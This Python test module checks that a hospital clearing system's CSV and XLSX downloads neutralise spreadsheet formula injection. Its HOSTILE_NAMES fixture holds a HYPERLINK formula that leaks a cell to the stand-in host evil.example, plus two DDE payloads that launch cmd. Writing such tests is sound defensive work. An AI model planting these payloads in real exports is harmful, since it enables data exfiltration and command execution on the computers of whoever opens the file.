"""Formula injection in the clearing downloads (issue 11, item 3): a world whose hospitals
carry hostile names, and the checks every download of its clearing must pass, whichever way it
is fetched (the route, the finance view, `onestop clearing`).

The checks read the files as a spreadsheet would: the CSV with `csv.reader`, the XLSX with
openpyxl and as the sheet's raw XML, where a formula would be an `<f>` element.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from api.core.config import Settings
from api.core.spreadsheet import PLAIN_NUMBER
from api.services.clearing import CLEARING_HEADER
from tests.support.world import World

HOSTILE_NAMES = {
    3: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    2: "+cmd|'/C calc'!A0",
    1: "-2+3+cmd|' /C calc'!A0",
}
"""Hospital names (by the world's hospital level) that a spreadsheet would run as formulas."""

MONEY_COLUMNS = tuple(CLEARING_HEADER.index(name) for name in ("settled", "reversed", "owed"))
NAME_COLUMN = CLEARING_HEADER.index("hospital_name")
KEY_COLUMNS = tuple(CLEARING_HEADER.index(name) for name in ("hospital_id", "fund"))
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def settle_at_hostile_hospitals(world: World, settings: Settings) -> str:
    """Rename the world's hospitals to `HOSTILE_NAMES`, settle a claim at each and reverse
    the one at level 3 (so its reversed amounts are negative); the business month of it all."""
    admin = world.auth(world.keys.admin)
    for level, name in HOSTILE_NAMES.items():
        response = world.client.put(
            f"/v1/hospitals/{world.hospitals[level]}",
            json={"name": name, "level": level, "region": "220000"},
            headers=admin,
        )
        assert response.status_code == 200, response.text
    settled: dict[int, dict[str, Any]] = {}
    for level in HOSTILE_NAMES:
        response = world.client.post(
            "/v1/settlements",
            json=world.claim("e2", level=level),
            headers=world.hospital_headers(level),
        )
        assert response.status_code == 201, response.text
        settled[level] = response.json()
    reversal = world.client.post(
        f"/v1/settlements/{settled[3]['settlement_id']}/reversal",
        json={"reason": "医院冲正：核对台账"},
        headers=world.hospital_headers(3),
    )
    assert reversal.status_code == 200, reversal.text
    settled_at = datetime.fromisoformat(settled[3]["settled_at"].replace("Z", "+00:00"))
    return settled_at.astimezone(ZoneInfo(settings.business_timezone)).strftime("%Y-%m")


def clearing_document(world: World, month: str) -> dict[str, Any]:
    """The month's clearing as the JSON route answers it (the figures the files must carry)."""
    response = world.client.get(
        "/v1/clearing", params={"month": month}, headers=world.auth(world.keys.finance)
    )
    assert response.status_code == 200, response.text
    document: dict[str, Any] = response.json()
    return document


def _our_rows(document: dict[str, Any], world: World) -> list[dict[str, Any]]:
    ours = set(world.hospitals.values())
    rows = [row for row in document["rows"] if row["hospital_id"] in ours]
    assert {row["hospital_id"] for row in rows} == ours
    assert any(row["reversed"].startswith("-") for row in rows), "no negative amount to check"
    return rows


def assert_csv_neutralised(text: str, document: dict[str, Any], world: World) -> None:
    """Every hostile name is written with a leading quote; amounts, negative ones included,
    stay plain numbers; and no cell of the file starts a formula."""
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == CLEARING_HEADER
    by_key = {tuple(row[column] for column in KEY_COLUMNS): row for row in rows[1:]}
    names = {world.hospitals[level]: name for level, name in HOSTILE_NAMES.items()}
    for expected in _our_rows(document, world):
        row = by_key[(expected["hospital_id"], expected["fund"])]
        assert row[NAME_COLUMN] == "'" + names[expected["hospital_id"]]
        assert [row[column] for column in MONEY_COLUMNS] == [
            expected["settled"], expected["reversed"], expected["owed"],
        ]  # fmt: skip
    assert_csv_cells_safe(text)


def assert_csv_cells_safe(text: str) -> None:
    """No cell of the CSV starts a formula: each is a plain number or starts no formula."""
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            assert not value.startswith(TRIGGERS) or PLAIN_NUMBER.fullmatch(value), value


def assert_xlsx_neutralised(content: bytes, document: dict[str, Any], world: World) -> None:
    """No formula anywhere in the workbook; hostile names are string cells holding the same
    neutralised text as the CSV; amounts, negative ones included, are numbers."""
    assert_xlsx_cells_safe(content)
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    assert tuple(cell.value for cell in rows[0]) == CLEARING_HEADER
    by_key = {tuple(row[column].value for column in KEY_COLUMNS): row for row in rows[1:]}
    names = {world.hospitals[level]: name for level, name in HOSTILE_NAMES.items()}
    for expected in _our_rows(document, world):
        row = by_key[(expected["hospital_id"], expected["fund"])]
        name_cell = row[NAME_COLUMN]
        assert name_cell.data_type == "s"
        assert name_cell.value == "'" + names[expected["hospital_id"]]
        for column, part in zip(MONEY_COLUMNS, ("settled", "reversed", "owed"), strict=True):
            assert row[column].data_type == "n"
            amount = Decimal(str(row[column].value)).quantize(Decimal("0.01"))
            assert amount == Decimal(expected[part])


def assert_xlsx_cells_safe(content: bytes) -> None:
    """No formula anywhere in the workbook (read as a spreadsheet and as the sheets' raw XML,
    where a formula is an `<f>` element); every text cell a string starting no formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert cell.data_type == "s", cell.coordinate
                assert not cell.value.startswith(TRIGGERS), cell.coordinate
